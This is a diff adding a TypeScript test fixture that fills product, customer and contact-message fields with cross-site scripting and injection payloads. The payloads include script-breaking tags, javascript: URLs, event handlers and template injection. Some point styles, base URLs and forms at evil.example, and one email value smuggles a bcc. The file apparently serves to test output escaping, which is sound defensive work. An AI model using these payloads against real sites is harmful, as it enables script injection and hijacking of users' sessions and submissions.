@@ -1,0 +1,70 @@
+import type { Product } from '#domain/catalogue/product.ts';
+import { pesos } from '#domain/money/centavos.ts';
+import type { Customer } from '#domain/orders/order.ts';
+import type { WireContactMessage } from '#schemas/wire/contact-message.ts';
+import { aThread } from './a-thread.ts';
+
+/** Leaves an attribute and a script, and runs one of its own: 39 letters, so that it fits into a product's code. */
+export const PLANTED = `'"></script><img src=x onerror=pwned=1>`;
+
+/** Others that short fields have room for. */
+const PLANTED_URL = 'javascript:pwned=1//"><svg/onload=pwned=1>';
+const PLANTED_TAG = '</title></style></textarea><iframe srcdoc="<script>parent.pwned=1</script>">';
+const PLANTED_HANDLER = `" onfocus=pwned=1 autofocus tabindex=1 x=' onmouseover=pwned=1 `;
+
+/** Everything together, for fields that hold more: comments, CDATA, templates, odd line ends, a style. */
+export const PLANTED_LONG = [
+  ...[PLANTED, PLANTED_URL, PLANTED_TAG, PLANTED_HANDLER],
+  ...[
+    '<!--<script>',
+    ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned=1</x:script>',
+    '\u2028pwned=1\u2029',
+  ],
+  ...[
+    '{{constructor.constructor("pwned=1")()}}',
+    '${pwned=1}',
+    '<math><mi//xlink:href="data:x,<script>pwned=1</script>">',
+  ],
+  ...[
+    '</style><style>@import "//evil.example/x"</style>',
+    '<base href=//evil.example>',
+    '<a href="javascript:pwned=1">x</a>',
+  ],
+  ...[
+    '<form action=//evil.example><button>x',
+    '&lt;script&gt;pwned=1&lt;/script&gt;',
+    '[x](javascript:pwned=1)',
+  ],
+].join(' ');
+
+/** A product in whose every field there is a script. */
+export function aPlantedProduct(changes: Partial<Product> = {}): Product {
+  return aThread({
+    brand: PLANTED_TAG,
+    name: `${PLANTED} ${PLANTED_URL}`,
+    summary: `${PLANTED} ${PLANTED_TAG} ${PLANTED_HANDLER}`.slice(0, 200),
+    description: PLANTED_LONG,
+    specifications: PLANTED_LONG,
+    colours: [PLANTED, PLANTED_URL, PLANTED_TAG, PLANTED_HANDLER.trim()],
+    altTexts: [`${PLANTED} ${PLANTED_HANDLER}`],
+    code: PLANTED,
+    isOffer: true,
+    price: pesos(5000),
+    ...changes,
+  });
+}
+
+export const PLANTED_CUSTOMER: Customer = {
+  firstName: PLANTED,
+  lastName: PLANTED_HANDLER.trim(),
+  phone: '3496401923',
+  email: 'a%22onfocus%3dpwned%3d1+b@correo.test',
+};
+
+export const PLANTED_MESSAGE: WireContactMessage = {
+  userName: PLANTED,
+  userEmail: 'a%3fbcc=mal%40evil.example@correo.test'.replace('=', '%3d'),
+  userPhone: PLANTED_URL.slice(0, 40),
+  userLocation: PLANTED_HANDLER,
+  userMessage: PLANTED_LONG,
+};
